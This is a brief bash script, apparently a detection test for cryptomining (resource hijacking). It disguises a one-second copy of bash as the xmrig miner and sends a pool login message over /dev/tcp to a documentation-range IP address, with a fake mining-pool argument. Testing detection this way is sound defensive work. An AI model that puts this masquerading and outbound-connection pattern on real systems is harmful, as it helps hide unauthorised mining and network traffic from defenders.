#!/bin/bash
# technique: T1496 Resource Hijacking
# tactic: impact
# user: www-data
# does: runs a busy program with the name and options of a miner, after lowering its priority
# harmless: it is a copy of bash that counts for a second

cp /bin/bash /tmp/xmrig
nice -n 19 timeout 1 /tmp/xmrig -c 'exec 3<>/dev/tcp/203.0.113.66/443; echo "{\"method\":\"login\"}" >&3; while :; do :; done' --donate-level 1 -o pool.foreign.example:443
rm /tmp/xmrig
